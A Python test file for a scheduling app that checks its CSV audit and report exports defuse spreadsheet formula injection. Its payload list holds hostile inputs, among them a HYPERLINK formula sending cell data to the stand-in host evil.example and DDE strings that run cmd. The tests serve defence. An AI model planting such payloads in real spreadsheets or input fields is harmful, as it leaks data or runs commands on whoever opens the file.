"""CSV exports never hand a spreadsheet a formula: text cells starting with = + - @
(or a tab or CR) get a leading ' . The attack: anyone can put text into the audit
log (a failed sign-in records the username typed), which an admin then opens in
Excel."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import httpx
import pytest

from scheduler.domain.report_math import csv_bytes
from scheduler.usecases.reports.views import csv_file
from tests.test_desk_pages import make_staff, sign_in

PAYLOADS = [
    '=hyperlink("http://evil.example/?"&a1,"details")',
    "+cmd|' /c calc'!a0",
    "-2+3+cmd|' /c calc'!a0",
    "@sum(1+1)*cmd|' /c calc'!a0",
    "\tx=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


async def test_audit_export_defuses_what_an_anonymous_visitor_typed(
    client: httpx.AsyncClient, db: None
) -> None:
    for payload in PAYLOADS:
        resp = await client.post(
            "/api/v1/staff/login", json={"username": payload, "password": "not the password"}
        )
        assert resp.status_code == 401
    await make_staff("root.audit", role="superadmin")
    await sign_in(client, "root.audit")
    today = date.today()
    resp = await client.get(
        "/staff/admin/audit",
        params={
            "format": "csv",
            "from": (today - timedelta(days=2)).isoformat(),
            "to": (today + timedelta(days=2)).isoformat(),
        },
    )
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    cells = [c for row in _cells(resp.content) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], cells
    # Each payload is there, readable, as text (the username as it was recorded:
    # trimmed, so the tab one is stored without its tab and is harmless anyway).
    for payload in (p for p in PAYLOADS if p.strip().startswith(FORMULA_START)):
        assert any(c.startswith("'") and payload.strip()[1:20] in c for c in cells), payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_report_csv_cells_are_defused_and_numbers_kept(payload: str) -> None:
    rows = [{"day": payload, "office": "GZ-TH", "slot_seats": -3, "day_cap": 2.5}]
    parsed = _cells(csv_file("en", "bookings", "days", rows))
    assert parsed[1][:4] == ["'" + payload, "GZ-TH", "-3", "2.5"]
    raw = _cells(csv_bytes(["a", "b", "c"], [[payload, -3, 2.5]]))
    assert raw[1] == ["'" + payload, "-3", "2.5"]
